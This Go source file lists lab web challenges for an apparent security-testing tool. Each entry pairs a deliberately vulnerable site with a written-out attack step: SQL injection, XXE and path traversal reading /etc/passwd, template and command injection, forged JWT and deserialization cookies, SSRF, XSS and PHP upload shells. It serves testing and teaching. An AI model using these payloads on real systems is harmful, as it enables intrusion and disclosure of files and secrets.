package web

// challenges are small sites with one weakness each, and a look of their own, in lab/web/challenge. They were written, and
// their labels proved, before the tester saw them. Users with a colon have passwords of their own.
var challenges = []flow{
	// Of others, and of those with more rights.
	{"hotel", "python", pairs, "form /login email password", "guest@aurora.example:Sommer!24x", "", []step{
		{"/receipt", "bola", "weak", "guest@aurora.example GET /receipt?booking=1044 => 7718"}}},
	{"praxis", "python", pairs, "form /anmelden benutzer kennwort", "mmueller:Kranich77", "", []step{
		{"/akte/*", "bola", "weak", "mmueller GET /akte/YmVmdW5kLTQ => Penicillin"}}},
	{"badge", "python", pairs, "", "-", "", []step{
		{"/badge/*", "bola", "weak", "-a POST /join nick=q7&secret=q7x ; -a POST /login nick=q7&secret=q7x ; -a GET /badge/c4ca4238a0b923820dcc509a6f75849b => 555-0190"}}},
	{"cowork", "python", pairs, "json /api/v2/auth login password", "tara:Tulip-55 omar:Maple-66", "", []step{
		{"/api/v2/members/*", "bola", "weak", `tara GET /api/v2/rooms ; tara GET /api/v2/members/{uuid} => FR14`}}},
	{"inbox", "python", pairs, "form /enter user pass", "lea:Paprika#3", "", []step{
		{"/open", "bola", "weak", "lea POST /open message_id=1 => 4471"}}},
	{"forum", "python", pairs, "", "-", "", []step{
		{"/registro", "mass", "weak", "-a POST /registro usuario=q7&clave=q7x&rol=admin ; -a POST /entrar usuario=q7&clave=q7x ; -a GET /moderacion => 203.0.113.9"}}},
	{"library", "python", pairs, "form /login username password", "reader:Bookworm9", "", []step{
		{"/desk", "bfla", "weak", "reader [Cookie: profile=eyJsaWJyYXJpYW4iOiB0cnVlfQ==] GET /desk => owes 12"}}},
	{"tickets", "python", pairs, "form /login username password", "fan:Encore!88", "", []step{
		{"/finish", "logic", "weak", "fan POST /choose seat=B2 ; fan POST /finish a=b ; fan GET /mine => 99182"}}},
	{"warehouse", "python", pairs, "form /login dock key", "dock1:Forklift-1 dock2:Forklift-2", "", []step{
		{"/api/pallet/*", "bola", "weak", `dock1 PATCH /api/pallet/2 {"label":"q7"} => "dock":"dock2"`}}},
	{"payroll", "python", pairs, "form /login username password", "temp:Stapler-4", "", []step{
		{"/office/salaries", "bfla", "weak", "temp GET /office/salaries => 9900"}}},
	{"harbour", "node", pairs, "form /inloggen naam wachtwoord", "pilot:Buoy-77", "", []step{
		{"/**", "jwt", "weak", "- [Cookie: auth=eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4Iiwicm9sZSI6Im1hc3RlciJ9.] GET /meester => smokkel"}}},
	{"school", "node", pairs, "form /login username password", "pupil:Chalk-12", "", []step{
		{"/marks/all", "bfla", "weak", "pupil POST /marks/all a=b => Leo"}}},
	{"bank", "node", pairs, "form /login user code", "ella:Vault-90 finn:Ledger-91", "", []step{
		{"/graphql", "bola", "weak", `ella POST /graphql {"query":"{account(id:502){pin}}"} => 7215`},
		{"/graphql", "introspection", "weak", `ella POST /graphql {"query":"{__schema{types{name}}}"} => "Account"`}}},
	{"dashboard", "node", pairs, "form /login username password", "ops:Pager-24", "", []step{
		{"/api/settings", "pollution", "weak", `ops POST /api/settings {"__proto__":{"q7":"on"}} ; ops GET /api/settings => "q7":"on"`}}},
	{"notes", "node", pairs, "", "-", "", []step{
		{"/api/v1/notes/*", "bola", "weak", `-a POST /api/v1/register {"username":"q7","password":"q7x"} ; -a POST /api/v1/login {"username":"q7","password":"q7x"} ; -a GET /api/v1/notes/1 => 4-8-15`}}},
	{"fleet", "python", pairs, "json /auth/token username password", "driver7:Gearbox-7", "", []step{
		{"/**", "jwt", "weak", "- [Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ4Iiwicm9sZSI6ImRpc3BhdGNoZXIifQ.nnzbM8hNWV3EcJ5cGeCe7qvPYoLueFENk_4Tu1EnTIc] GET /dispatch/plan => 04:30"}}},
	{"blog", "python", pairs, "form /accounts/login/ username password", "writer:Quill-77", "", []step{
		{"/drafts/*", "bola", "weak", "-a GET /accounts/login/ ; -a POST /accounts/login/ username=writer&password=Quill-77&csrfmiddlewaretoken={hidden:csrfmiddlewaretoken} ; -a GET /drafts/33/ => Pay cuts"},
		{"/archive", "sql", "weak", "- GET /archive/?year=0+OR+live=0 => Secret plans"}}},

	// Statements.
	{"garage", "python", pairs, "", "-", "", []step{{"/intern", "sql", "weak", "- POST /intern name='+OR+1=1--+&wort=x => ^302"}}},
	{"recipes", "python", pairs, "", "-", "", []step{{"/search", "sql", "weak", "- GET /search?q=zzz'OR'1'LIKE'1 => Ramen"}}},
	{"metrics", "python", pairs, "", "-", "", []step{
		{"/api/hosts", "sql", "weak", "- GET /api/hosts?sort=CASE+WHEN+id=3+THEN+0+ELSE+1+END => ^200(?s).*items.:.{.id.:3"}}},
	{"boutique", "python", pairs, "", "-", "", []step{{"/coats", "sql", "weak", "- [Cookie: devise=x'OR'1'='1] GET /coats => Prix conv"}}},
	{"visits", "python", pairs, "", "-", "", []step{{"/", "sql", "weak", "- [User-Agent: a'b] GET / => Database error"}}},
	{"parts", "python", pairs, "", "-", "", []step{{"/rpc/find", "sql", "weak", `- POST /rpc/find {"query":{"sku":"z'OR'1'='1"}} => prototype rotor`}}},
	{"guild", "python", pairs, "", "-", "", []step{
		{"/quests", "sql", "weak", "-a POST /enlist username=q7'OR'1'='1&password=x ; -a POST /login username=q7'OR'1'='1&password=x ; -a GET /quests => 5519"}}},
	{"vouchers", "python", pairs, "", "-", "", []step{{"/fragments/voucher", "sql", "weak", "- POST /fragments/voucher code=z'OR'1'='1 => accepted"}}},
	{"chatter", "node", pairs, "", "-", "", []step{
		{"/api/session", "nosql", "weak", `- POST /api/session {"name":"kim","word":{"$ne":"x"}} => kim@chat`}}},
	{"museumshop", "node", pairs, "", "-", "", []step{{"/prints", "nosql", "weak", "- GET /prints?artist=klee&state[$ne]=public => Angel"}}},
	{"cars", "php", pairs, "", "-", "", []step{{"/", "xpath", "weak", "- GET /?make=z'+or+'1'='1 => Bentley"}}},

	// Templates, commands, files, documents, addresses, objects.
	{"cafe", "python", pairs, "", "-", "", []step{
		{"/login", "default", "weak", "- POST /login username=test&password=test => ^302"},
		{"/card", "template", "weak", "-a POST /login username=test&password=test ; -a POST /card display={{7*191}} => 1337"}}},
	{"letters", "python", pairs, "form /login username password", "marketing:Campaign#1", "", []step{
		{"/api/preview", "template", "weak", `marketing POST /api/preview {"subject":"a","body":"{{ 7*191 }}"} => 1337`}}},
	{"invites", "python", pairs, "", "-", "", []step{{"/event/*", "template", "weak", "- GET /event/$%7B7*191%7D => 1337"}}},
	{"planner", "node", pairs, "", "-", "", []step{{"/apercu", "template", "weak", "- POST /apercu titre={{7*191}} => 1337"}}},
	{"labels", "node", pairs, "", "-", "", []step{{"/label", "template", "weak", "- GET /label?text=%3C%25%3D7*191%25%3E => 1337"}}},
	{"router", "python", pairs, "", "-", "", []step{
		{"/", "default", "weak", "- POST / user=admin&pwd=admin => ^302"},
		{"/diag", "command", "weak", "-a POST / user=admin&pwd=admin ; -a POST /diag target=x;expr+7+%2B+1330 => 1337"}}},
	{"prints", "python", pairs, "form /login username password", "studio:Shutter-125", "", []step{
		{"/send", "command", "weak", "studio FILE /send picture a$((7*191)).png image/png x => a1337"}}},
	{"feedback", "php", pairs, "", "-", "", []step{{"/", "command", "weak", "- POST / email=a@b;sleep+2&message=a => slow"}}},
	{"manuals", "python", pairs, "", "-", "", []step{
		{"/get", "path", "weak", "- GET /get?path=docs/../../../../../../../../etc/passwd => root:x:0:0"}}},
	{"postcards", "node", pairs, "", "-", "", []step{
		{"/img", "path", "weak", "- GET /img?file=....//....//....//....//....//etc/passwd => root:x:0:0"}}},
	{"notices", "php", pairs, "", "-", "", []step{
		{"/", "path", "weak", "- GET /?view=../../../../../../../../../etc/passwd => root:x:0:0"}}},
	{"invoices", "python", pairs, "form /login username password", "buchhaltung:Skonto-2%", "", []step{
		{"/einlesen", "xxe", "weak", `buchhaltung FILE /einlesen rechnung a.xml text/xml <!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a><nummer>&e;</nummer></a> => root:x:0:0`}}},
	{"weather", "python", pairs, "", "-", "", []step{
		{"/service/weather", "xxe", "weak", `- POST /service/weather <!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a><City>&e;</City></a> => root:x:0:0`}}},
	{"stock", "python", pairs, "", "-", "", []step{
		{"/bike/stock", "ssrf", "weak", "- POST /bike/stock stock_url=http://0x7f000001:{port}/ => Two wheels"}}},
	{"prefs", "python", pairs, "", "-", "", []step{
		{"/", "deserialization", "weak", "- [Cookie: prefs=Y3RpbWUKc2xlZXAKKEkyCnRSLg==] GET / => slow"}}},
	{"theme", "php", pairs, "", "-", "", []step{
		{"/", "deserialization", "weak", "- [Cookie: look=Tzo5OiJDYWNoZUZpbGUiOjE6e3M6NDoiZmlsZSI7czoxMToiL2V0Yy9wYXNzd2QiO30=] GET / => root:x:0:0"}}},
	{"groceries", "node", pairs, "", "-", "", []step{
		{"/", "deserialization", "weak", "- [Cookie: basket=eyJuYW1lIjoiXyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7cmV0dXJuIDcqMTkxfSgpIn0=] GET / => Basket of 1337"}}},

	// What a browser runs and keeps.
	{"movies", "python", pairs, "", "-", "", []step{{"/find", "xss", "weak", "- GET /find?title=%3Cb%3Eq7 => <b>q7"}}},
	{"players", "python", pairs, "", "-", "", []step{{"/play", "xss", "weak", `- GET /play?station=\";alert(1)// => "\\\\";alert`}}},
	{"travel", "python", pairs, "", "-", "", []step{{"/buscar", "xss", "weak", `- POST /buscar destino="onfocus=q7 => value=""onfocus=q7`}}},
	{"boards", "python", pairs, "", "-", "", []step{{"/boards", "xss", "weak", "- GET /boards?filter=%3C/script%3E%3Cb%3E => </script><b>"}}},
	{"guests", "python", pairs, "", "-", "", []step{{"/book", "xss", "weak", "- POST /book entry=%3Cb%3Eq7 ; - GET /book => <B>Q7"}}},
	{"tasks", "python", pairs, "form /login username password", "iris:Lavender-1 noah:Cedar-2", "", []step{
		{"/**", "xss", "weak", ""}}},
	{"welcome", "python", pairs, "", "-", "", []step{{"/", "xss", "weak", ""}}},
	{"club", "python", pairs, "form /in login password", "member:Racket-40", "", []step{
		{"/in", "redirect", "weak", "- POST /in login=member&password=Racket-40&return=//q7.example/ => Location: //q7"}}},
	{"artists", "python", pairs, "form /login username password", "painter:Ochre-12", "", []step{
		{"/**", "upload", "weak", "painter FILE /submit art q7.svg image/svg+xml <svg>q7</svg> ; - GET /art/q7.svg => ^200 image/svg[^\n]*\n(?s).*<svg>q7"}}},
	{"shots", "php", pairs, "form / name pass", "press:Flash-22", "", []step{
		{"/**", "upload", "weak", "press FILE / shot q7.phtml text/plain <?=7*191; ; - GET /files/q7.phtml => ^200(?s).*1337"}}},
	{"gallery", "php", pairs, "", "-", "", []step{
		{"/**", "upload", "weak", "- FILE /send.php cat q7.php image/png <?=7*191; ; - GET /files/q7.php => ^200(?s).*1337"}}},
	{"energy", "python", "cors forged fixed sound", "form /signin user password", "rosa:Turbine-5", "", []step{
		{"/api/usage", "cors", "cors", "rosa [Origin: https://q7.example] GET /api/usage => Allow-Origin: https://q7(?s).*M-77120"},
		{"/me/mail", "csrf", "forged", "rosa [Origin: https://q7.example] POST /me/mail mail=q7@lab.example ; rosa GET /me => Mail: q7@lab"},
		{"/**", "fixation", "fixed", "-a [Cookie: pid=0123456789ab] POST /signin user=rosa&password=Turbine-5 ; -b [Cookie: pid=0123456789ab] GET /me => Mail:"}}},

	// What an application trusts, tells, and left behind.
	{"bakery", "python", "price negative twice sound", "form /login username password", "hungry:Brioche-6", "", []step{
		{"/basket/add", "logic", "price negative", "hungry POST /basket/add product=3&price=1&quantity={quantity} ; hungry GET /basket => Total: (1|-56)<"},
		{"/basket/coupon", "logic", "twice", "hungry POST /basket/coupon coupon=BUTTER3 ; hungry POST /basket/coupon coupon=BUTTER3 ; hungry GET /basket => Off: 6"}}},
	{"giftcard", "python", pairs, "form /login username password", "sam:Ribbon-3", "", []step{
		{"/redeem", "race", "weak", "sam TWICE POST /redeem card=GIFT-1 ; sam GET / => Balance: 50"}}},
	{"forgot", "python", "host token users sound", "form /login username password", "nina:Compass-8", "", []step{
		{"/password/forgot", "host", "host", "- [X-Forwarded-Host: q7.example] [Host: q7.example] POST /password/forgot username=nina ; nina GET /mails => http://q7\\.example"},
		{"/**", "predictable", "token", "- POST /password/forgot username=lars ; - GET /password/reset?token=c1573785b915b5e19e0eae29ef9d9f72 => For lars"},
		{"/password/forgot", "enumeration", "users", "- POST /password/forgot username=zzz => no account"}}},
	{"profile", "python", pairs, "form /login username password", "gus:Anchor-31", "", []step{
		{"/api/profile", "mass", "weak", `gus PUT /api/profile {"plan":"gold","verified":true} ; gus GET /api/profile => "verified":true`}}},
	{"leftover", "python", pairs, "", "-", "", []step{
		{"/.git/**", "exposure", "weak", "- GET /.git/HEAD => refs/heads"},
		{"/.env", "exposure", "weak", "- GET /.env => DB_PASSWORD"},
		{"/app.py.bak", "exposure", "weak", "- GET /app.py.bak => secret_key"},
		{"/js/**", "exposure", "weak", "- GET /js/main.js.map => sk_live"},
		{"/tour", "error", "weak", "- GET /tour?id=x => Traceback"}}},
}
